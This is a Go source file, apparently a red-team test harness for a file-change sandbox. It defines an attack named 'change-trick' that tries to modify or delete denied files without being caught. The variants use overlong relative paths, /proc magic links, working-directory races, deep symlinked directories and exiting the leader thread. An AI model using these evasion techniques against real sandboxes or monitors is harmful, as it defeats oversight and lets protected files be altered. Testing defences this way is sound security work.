package main

// The attack "change-trick": changes by name to a denied file through
// names a check after the call cannot follow (a /proc magic link, a name
// longer than the kernel's event carries, a working directory flipped
// during the call), and large clean-ups that must not end a session.

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// changeTrickOp does one change op on name (relative to the working directory).
func changeTrickOp(op, name string) error {
	switch op {
	case "truncate":
		return unix.Truncate(name, 0)
	case "setxattr":
		return unix.Setxattr(name, "user.mcpcage", []byte("x"), 0)
	case "removexattr":
		return unix.Removexattr(name, "user.mcpcage")
	case "chmod":
		return unix.Chmod(name, 0o644)
	case "unlink":
		return unix.Unlink(name)
	case "mkdir":
		return unix.Mkdir(name, 0o755)
	}
	return fmt.Errorf("unknown op %q", op)
}

// changeTrick is the attack "change-trick": args[0] the variant.
func changeTrick(args []string) (string, error) {
	if len(args) < 1 {
		return "", fmt.Errorf("change-trick: no variant")
	}
	switch args[0] {
	case "long":
		// long OP DIR NAME: from DIR, the name NAME behind 64 "./": the
		// kernel checks DIR (fine), the event's hint is the first 127
		// bytes ("./././...") and the daemon resolves DIR/. only.
		op, dir, name := args[1], args[2], args[3]
		if err := os.Chdir(dir); err != nil {
			return "", err
		}
		long := strings.Repeat("./", 64) + name
		if err := changeTrickOp(op, long); err != nil {
			return "", err
		}
		time.Sleep(10 * time.Second) // time for a kill
		return fmt.Sprintf("%s %s (%d bytes) went unpunished for 10 s", op, name, len(long)), nil
	case "long-over":
		// the same, over the session's event budget (reported with
		// over_budget since the name is cut short).
		op, dir, name := args[1], args[2], args[3]
		if err := os.Chdir(dir); err != nil {
			return "", err
		}
		for i := 0; i < 5000; i++ {
			if fd, err := unix.Open(fmt.Sprintf("missing-%d", i), unix.O_RDONLY, 0); err == nil {
				unix.Close(fd)
			}
		}
		long := strings.Repeat("./", 64) + name
		if err := changeTrickOp(op, long); err != nil {
			return "", err
		}
		time.Sleep(10 * time.Second)
		return fmt.Sprintf("%s %s over budget went unpunished for 10 s", op, name), nil
	case "cwdrace":
		// cwdrace OP DIR DENIED NAME: the working directory flips between
		// DENIED (where NAME is) and DIR; the kernel resolves NAME from
		// the working directory at the call's start, and the exit program
		// checks the working directory at the call's end.
		// An optional 5th argument N puts N "./" in front of NAME (a
		// longer walk after the working directory is taken; under the
		// 127 bytes the event carries for N <= 58).
		op, dir, denied, name := args[1], args[2], args[3], args[4]
		if len(args) > 5 {
			n, _ := strconv.Atoi(args[5])
			name = strings.Repeat("./", n) + name
		}
		return changeTrickCwdRace(op, dir, denied, name)
	case "proccwd":
		// proccwd OP DIR DENIED NAME: a child sleeps with DENIED as its
		// working directory (chdir is not checked); from DIR, the change
		// names /proc/CHILD/cwd/NAME. The kernel checks DIR; the name
		// has no denied component as text, and the daemon's resolution
		// (RESOLVE_NO_MAGICLINKS) fails on the magic link and is skipped.
		op, dir, denied, name := args[1], args[2], args[3], args[4]
		child := exec.Command("/bin/sleep", "60")
		child.Dir = denied
		if err := child.Start(); err != nil {
			return "", err
		}
		defer child.Process.Kill()
		if err := os.Chdir(dir); err != nil {
			return "", err
		}
		via := fmt.Sprintf("/proc/%d/cwd/%s", child.Process.Pid, name)
		time.Sleep(200 * time.Millisecond) // the child in place
		if err := changeTrickOp(op, via); err != nil {
			return "", err
		}
		time.Sleep(10 * time.Second) // time for a kill
		return fmt.Sprintf("%s %s went unpunished for 10 s", op, via), nil
	case "deep", "longname":
		// deep|longname OP DIR DENIED NAME: from a directory under DIR
		// that the kernel's event cannot name whole (deep: 20 levels,
		// deeper than its walk; longname: a component of 60 bytes, kept
		// to 47), the change names l/NAME, l a symlink to DENIED. The
		// kernel checks that directory (fine) and the name as text (no
		// denied component); the daemon must resolve l, from a directory
		// it cannot take from the event.
		op, denied, name := args[1], args[3], args[4]
		from, err := symlinkFrom(args[0], args[2], denied)
		if err != nil {
			return "", err
		}
		if err := changeTrickOp(op, "l/"+name); err != nil {
			return "", err
		}
		time.Sleep(10 * time.Second) // time for a kill
		return fmt.Sprintf("%s l/%s from %s went unpunished for 10 s", op, name, from), nil
	case "leader-gone":
		// leader-gone OP DIR DENIED NAME: deep, the change made by a
		// second thread once the process's first thread has ended alone
		// (exit(2), not exit_group(2)): the process's working directory
		// and descriptors in /proc (/proc/PID/cwd, fd) are then empty,
		// the calling thread's (/proc/PID/task/TID/...) are not. Runs on
		// the first thread (see init).
		op, denied, name := args[1], args[3], args[4]
		if unix.Gettid() != unix.Getpid() {
			return "", errors.New("leader-gone: not on the process's first thread")
		}
		from, err := symlinkFrom("deep", args[2], denied)
		if err != nil {
			return "", err
		}
		go func() {
			// Wait for the first thread's end: the process's working
			// directory is unreadable from then on.
			for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(time.Millisecond) {
				if _, err := os.Readlink("/proc/self/cwd"); err != nil {
					break
				}
				if time.Now().After(deadline) {
					fmt.Println("DENIED the first thread did not end")
					os.Exit(0)
				}
			}
			if err := changeTrickOp(op, "l/"+name); err != nil {
				fmt.Println("DENIED " + err.Error())
				os.Exit(0)
			}
			time.Sleep(10 * time.Second) // time for a kill
			fmt.Printf("ESCAPED %s l/%s from %s, the first thread gone, went unpunished for 10 s\n", op, name, from)
			os.Exit(0)
		}()
		unix.Syscall(unix.SYS_EXIT, 0, 0, 0) // this thread only
		return "", errors.New("leader-gone: exit(2) returned")
	case "renameat":
		// renameat DIR: DIR/a/f renamed to DIR/b/g by two directory
		// descriptors (renameat(2)): the new name is relative to the
		// second, which the kernel's event does not name.
		dir := args[1]
		for _, d := range []string{"a", "b"} {
			if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
				return "", err
			}
		}
		if err := os.WriteFile(filepath.Join(dir, "a/f"), []byte("x"), 0o644); err != nil {
			return "", err
		}
		var fds [2]int
		for i, d := range []string{"a", "b"} {
			fd, err := unix.Open(filepath.Join(dir, d), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil {
				return "", err
			}
			defer unix.Close(fd)
			fds[i] = fd
		}
		if err := unix.Renameat(fds[0], "f", fds[1], "g"); err != nil {
			return "", err
		}
		return "renamed a/f to b/g", nil
	case "rmabs":
		// rmabs DIR N: a clean-up as node's fs.rm (recursive) does it in
		// JS: N files, each removed by its absolute name (a '/': over the
		// budget, every one is reported for the daemon to check).
		dir := args[1]
		n, _ := strconv.Atoi(args[2])
		return changeTrickRmAbs(dir, n)
	case "rmgo":
		// rmgo DIR N: N files named with 4 characters (as long as
		// ".ssh"), removed by os.RemoveAll (unlinkat on a directory fd).
		dir := args[1]
		n, _ := strconv.Atoi(args[2])
		return changeTrickRmGo(dir, n)
	}
	return "", fmt.Errorf("change-trick: unknown variant %q", args[0])
}

// symlinkFrom makes a directory under dir that a kernel event cannot
// name whole (variant deep: 20 levels; longname: a 60-byte component),
// with l in it a symlink to denied, and makes it the working directory.
func symlinkFrom(variant, dir, denied string) (string, error) {
	from := filepath.Join(dir, strings.Repeat("d/", 20))
	if variant == "longname" {
		from = filepath.Join(dir, strings.Repeat("n", 60))
	}
	if err := os.MkdirAll(from, 0o755); err != nil {
		return "", err
	}
	if err := os.Symlink(denied, filepath.Join(from, "l")); err != nil {
		return "", err
	}
	return from, os.Chdir(from)
}

// init keeps the attack leader-gone's main goroutine on the process's
// first thread, which it ends.
func init() {
	if len(os.Args) > 2 && os.Args[1] == "change-trick" && os.Args[2] == "leader-gone" {
		runtime.LockOSThread()
	}
}

func changeTrickCwdRace(op, dir, denied, name string) (string, error) {
	runtime.LockOSThread()
	if err := unix.Chdir(dir); err != nil {
		return "", err
	}
	// Back to dir by fchdir (no lookup: the fastest way out of denied),
	// into denied by its short relative name (chdir is not checked).
	dirfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	rel, err := filepath.Rel(dir, denied)
	if err != nil {
		return "", err
	}
	var stop atomic.Bool
	var flips atomic.Int64
	defer stop.Store(true)
	go func() {
		runtime.LockOSThread()
		for !stop.Load() {
			unix.Chdir(rel)
			unix.Fchdir(dirfd)
			flips.Add(1)
			for i := 0; i < 100; i++ {
				runtime.KeepAlive(i)
			}
		}
	}()
	tries := 0
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); tries++ {
		err := changeTrickOp(op, name)
		if errors.Is(err, unix.EPERM) {
			return "", err // refused outright, whatever the working directory
		}
		if err == nil {
			stop.Store(true)
			time.Sleep(10 * time.Second) // time for a kill
			return fmt.Sprintf("%s %s after %d tries (%d flips) went unpunished for 10 s", op, filepath.Join(denied, name), tries, flips.Load()), nil
		}
	}
	return "", fmt.Errorf("no %s got through in 20 s (%d tries)", op, tries)
}

func changeTrickMake(root string, n int, nameOf func(i int) string) ([]string, error) {
	var files []string
	for i := 0; i < n; i++ {
		d := filepath.Join(root, fmt.Sprintf("d%03d", i/5000))
		if i%5000 == 0 {
			if err := os.MkdirAll(d, 0o755); err != nil {
				return nil, err
			}
		}
		f := filepath.Join(d, nameOf(i))
		fd, err := unix.Open(f, unix.O_CREAT|unix.O_WRONLY, 0o644)
		if err != nil {
			return nil, err
		}
		unix.Close(fd)
		files = append(files, f)
	}
	return files, nil
}

func changeTrickRmAbs(dir string, n int) (string, error) {
	root := filepath.Join(dir, "rmtree")
	files, err := changeTrickMake(root, n, func(i int) string { return fmt.Sprintf("file-%07d.js", i) })
	if err != nil {
		return "", err
	}
	start := time.Now()
	for _, f := range files {
		if err := unix.Unlink(f); err != nil {
			return "", err
		}
	}
	took := time.Since(start)
	if err := os.RemoveAll(root); err != nil {
		return "", err
	}
	time.Sleep(3 * time.Second)
	return fmt.Sprintf("removed %d files by absolute name in %v, alive 3 s later", n, took), nil
}

func changeTrickRmGo(dir string, n int) (string, error) {
	root := filepath.Join(dir, "rmtree")
	if _, err := changeTrickMake(root, n, func(i int) string { return fmt.Sprintf("%04d", i%5000) }); err != nil {
		return "", err
	}
	start := time.Now()
	if err := os.RemoveAll(root); err != nil {
		return "", err
	}
	took := time.Since(start)
	time.Sleep(3 * time.Second)
	return fmt.Sprintf("os.RemoveAll of %d files in %v, alive 3 s later", n, took), nil
}
